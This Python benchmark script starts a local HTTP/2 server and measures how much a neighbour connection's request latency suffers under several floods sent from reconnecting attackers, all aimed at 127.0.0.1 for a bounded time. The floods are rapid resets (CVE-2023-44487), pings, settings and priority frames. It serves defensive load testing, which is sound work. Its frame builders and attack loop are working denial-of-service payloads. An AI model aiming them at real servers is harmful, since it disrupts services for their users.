"""Measure what an attack on one HTTP/2 connection costs a neighbour's requests, on the real clock and real sockets.

The server runs as a process of its own. The attackers reconnect as often as they are cut off, for a bounded time. What
is printed is the time of a small request on another connection: alone, and while each attack goes on.

    python benchmarks/neighbour.py --seconds 2
"""

from __future__ import annotations

import argparse
import functools
import statistics
import subprocess
import sys
from collections.abc import Callable

import trio
from hpack import Encoder

import hface_trio
from hface_trio.client import RequestURL, request_headers

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SERVER = """
import trio, hface_trio
async def hello(stream):
    await stream.send_response(200, body=b"hello")
async def main():
    async with trio.open_nursery() as nursery:
        server = await nursery.start(hface_trio.serve, hello, "http://127.0.0.1:0")
        print(server.endpoints[0].port, flush=True)
trio.run(main)
"""


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """Return an HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream_id.to_bytes(4, "big") + payload


def rapid_resets() -> bytes:
    """Return requests, each reset right away (CVE-2023-44487)."""
    head = [(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/")]
    block = Encoder().encode(head)
    pair = [frame(1, 5, i, block) + frame(3, 0, i, bytes(4)) for i in range(1, 4001, 2)]
    return b"".join(pair)


ATTACKS: dict[str, Callable[[], bytes]] = {
    "rapid resets": rapid_resets,
    "pings": lambda: frame(6, 0, 0, bytes(8)) * 5000,
    "settings": lambda: frame(4, 0, 0) * 5000,
    "priorities": lambda: frame(2, 0, 1, bytes(5)) * 5000,
}


async def attack(port: int, octets: bytes) -> None:
    """Attack until cancelled."""
    while True:
        stream = await trio.open_tcp_stream("127.0.0.1", port)
        try:
            await stream.send_all(PREFACE + frame(4, 0, 0) + octets)
            while await stream.receive_some():
                pass
        except trio.BrokenResourceError:
            pass  # cut off, as it should be
        finally:
            await trio.aclose_forcefully(stream)


async def neighbour(url: str, seconds: float) -> list[float]:
    """Return the times of requests on one connection, one after the other, with a pause in between."""
    times: list[float] = []
    headers = request_headers("GET", RequestURL.parse(url))
    async with (
        trio.open_nursery() as nursery,
        await hface_trio.connect(nursery, url, http_versions=["2"]) as connection,
    ):
        end = trio.current_time() + seconds
        while trio.current_time() < end:
            began = trio.current_time()
            async with connection.open_stream(headers, end_stream=True) as stream:
                await stream.receive_response()
                await stream.read_body()
            times.append(trio.current_time() - began)
            await trio.sleep(0.005)
    return times


def report(name: str, times: list[float]) -> None:
    """Print median, 95th percentile and maximum in milliseconds."""
    ordered = sorted(1000 * time for time in times)
    p95 = ordered[int(len(ordered) * 0.95)]
    print(f"{name:14} median {statistics.median(ordered):6.2f}  p95 {p95:6.2f}  max {ordered[-1]:6.2f} ms")


async def measure(port: int, seconds: float) -> None:
    """Measure alone, and under each attack."""
    url = f"http://127.0.0.1:{port}/"
    await neighbour(url, 0.5)
    report("alone", await neighbour(url, seconds))
    for name, make in ATTACKS.items():
        async with trio.open_nursery() as nursery:
            nursery.start_soon(attack, port, make())
            await trio.sleep(0.2)
            report(name, await neighbour(url, seconds))
            nursery.cancel_scope.cancel()


def main() -> None:
    """Start the server, measure, and end it."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--seconds", type=float, default=2, help="length of each measurement (default: 2)")
    seconds = parser.parse_args().seconds
    with subprocess.Popen([sys.executable, "-c", SERVER], stdout=subprocess.PIPE, text=True) as server:
        try:
            assert server.stdout is not None
            trio.run(functools.partial(measure, int(server.stdout.readline()), seconds))
        finally:
            server.terminate()


if __name__ == "__main__":
    main()
